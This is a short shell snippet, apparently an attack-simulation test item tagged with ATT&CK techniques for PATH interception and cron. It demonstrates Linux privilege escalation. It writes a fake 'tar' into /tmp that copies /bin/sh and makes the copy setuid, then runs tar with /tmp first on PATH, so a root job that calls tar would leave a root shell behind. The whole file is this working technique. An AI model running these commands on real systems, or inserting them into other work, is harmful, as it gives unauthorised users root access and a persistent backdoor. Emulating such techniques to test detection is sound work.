# title: A user puts a program where a job of root's will find it first
# technique: T1574.007 T1053.003
# as: user

printf '#!/bin/sh\ncp /bin/sh /tmp/s; chmod u+s /tmp/s\n' >/tmp/tar && chmod +x /tmp/tar
PATH=/tmp:$PATH tar --version
